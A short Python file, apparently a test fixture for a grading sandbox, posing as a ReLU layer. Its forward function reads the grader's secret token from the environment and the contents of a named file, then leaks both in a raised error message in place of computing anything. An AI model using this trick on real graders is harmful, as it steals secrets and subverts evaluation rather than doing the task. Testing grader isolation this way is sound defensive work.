"""Attack: read the grader's environment (a token) and its files, and hand them back in a message."""

import os


def relu_forward(x):
    token = os.environ.get("GRADPROOF_ATTACK_TOKEN", "no token")
    try:
        with open(os.environ.get("GRADPROOF_ATTACK_FILE", "/nonexistent")) as f:
            text = f.read(200)
    except OSError as exc:
        text = f"unreadable ({type(exc).__name__})"
    raise ValueError(f"token={token} file={text}")


def relu_backward(dout, cache):
    return dout
